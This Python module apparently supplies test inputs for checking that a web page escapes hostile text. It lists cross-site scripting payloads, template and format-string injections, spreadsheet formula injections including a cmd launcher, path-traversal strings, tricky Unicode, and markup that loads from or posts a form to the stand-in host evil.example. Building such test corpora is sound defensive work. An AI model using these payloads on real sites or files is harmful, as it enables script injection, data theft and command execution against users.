"""Texts that attack a page: as words, names, sentences, links, files' names."""

import random
from collections.abc import Iterator, Sequence

MARKUP = (
    "<script>hacked(1)</script>", "</script><script>hacked(2)</script>",
    "<img src=x onerror=hacked(3)>", "<img/src=x/onerror=hacked(4)>", "<svg/onload=hacked(5)>",
    "<svg><script>hacked(6)</script></svg>", "<iframe srcdoc='<script>parent.hacked(7)</script>'>",
    "</textarea><img src=x onerror=hacked(8)>", "</title><script>hacked(9)</script>",
    '"><img src=x onerror=hacked(10)>', "' autofocus onfocus=hacked(11) '",
    '" onmouseover="hacked(12)', "<body onload=hacked(13)>", "<details open ontoggle=hacked(14)>",
    "<style>*{display:none}</style>", "<base href=https://evil.example/>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<object data=//evil.example>",
    "<video><source onerror=hacked(15)>", "<math><mi xlink:href=javascript:hacked(16)>",
    "<b>bold</b>", "<a href=javascript:hacked(17)>a</a>", "javascript:hacked(18)",
    "data:text/html,<script>hacked(19)", "<!--", "-->", "<![CDATA[", "]]>", "<?xml",
    "&lt;script&gt;", "&#60;b&#62;", "&amp;", "&nbsp;", "<template shadowrootmode=open>",
    "<form action=//evil.example><input name=ledger>", "<input id=ledger>",
    "<noscript><p title='</noscript><img src=x onerror=hacked(20)>'>",
)  # fmt: skip
CODE = (
    "${hacked(21)}", "`${hacked(22)}`", "'+hacked(23)+'", '";hacked(24);"', "\\';hacked(25)//",
    "{{constructor.constructor('hacked(26)')()}}", "*/hacked(27)/*", "//", "\\u003cscript\\u003e",
    "\\x3cscript>", "%3Cscript%3E", "{data}", "{script}", "{policy}", "{weights}", "{0}", "%s",
    "%n", "$&", "$1", "$`", "=1+1", "=HYPERLINK(\"//evil.example\")", "@SUM(A1)",
    "+cmd|'/c_calc'!A1", "\\", "url(//evil.example/x.png)", "@import'//evil.example'",
    "}*{display:none", "expression(hacked(28))", "https://evil.example/", "//evil.example",
    "file:///etc/passwd", "../../x", "C:\\x",
)  # fmt: skip
NAMES = (
    "__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "valueOf", "then",
    "length", "null", "undefined", "NaN", "Infinity", "-0", "1e999", "true", "FALSE", "#N/A",
    "#ref!", "0", "0x10", "1_000", "nan", "inf", "*", "?", "~", "~*", "<>", ">=1", "[0,0]", "&",
    "#", "'", '"', "=", ".", "-",
)  # fmt: skip
SIGNS = (
    "\u202egnp.exe", "\u2066a\u2067b", "a\u0000b", "\u0007", "\u001b[31mred", "\u007f", "\u200b",
    "\ufeff", "e\u0301\u0301\u0301\u0301", "\U0001f469\u200d\U0001f52c", "\ud83d", "\U0010ffff",
    "\ufffe", "ﷺ", "İ", "ß", "ﬁ", "\u0660", "\u3164", "x" * 3000, "_x0041_", "\u00ad",
)  # fmt: skip
SPACED = (
    "", " ", "\n", "a\nb", "a\r\nb", "\t", "\u2028", "a \u2029 b", "\u00a0", "\v\f",
    "<script>\nhacked(29)\n</script>", "<img src=x\tonerror=hacked(30)>", " a  b ", "a " * 300,
)  # fmt: skip
PARTS = (
    "<", ">", "</", "/>", '"', "'", "`", "&", ";", "${", "}", "{", "(", ")", "=", "\\", "script",
    "img", "svg", "src=x", "onerror=hacked(31)", "onload=hacked(32)", "javascript:", "hacked(33)",
    "<!--", "-->", "]]>", "%3C", "&#60;", "\\u003c", "__proto__", "\u202e", "\u200b", "🙂",
    "{data}", "$&", "#", "//evil.example", "*", "~", "1e999",
)  # fmt: skip
PLAIN = (*MARKUP, *CODE, *NAMES, *SIGNS)  # without line breaks


def joined(seed: int) -> Iterator[str]:
    """Parts of attacks, joined by chance, all different."""
    draw, known = random.Random(seed), set[str]()
    while True:
        text = "".join(draw.choices(PARTS, k=draw.randrange(2, 6)))
        if text not in known:
            known.add(text)
            yield text


def words(texts: Sequence[str]) -> list[str]:
    """Texts as words: without white space, no two alike in any case."""
    found: dict[str, str] = {}
    for text in texts:
        word = "/".join(text.split())
        if word:
            found.setdefault(word.casefold(), word)
    return list(found.values())
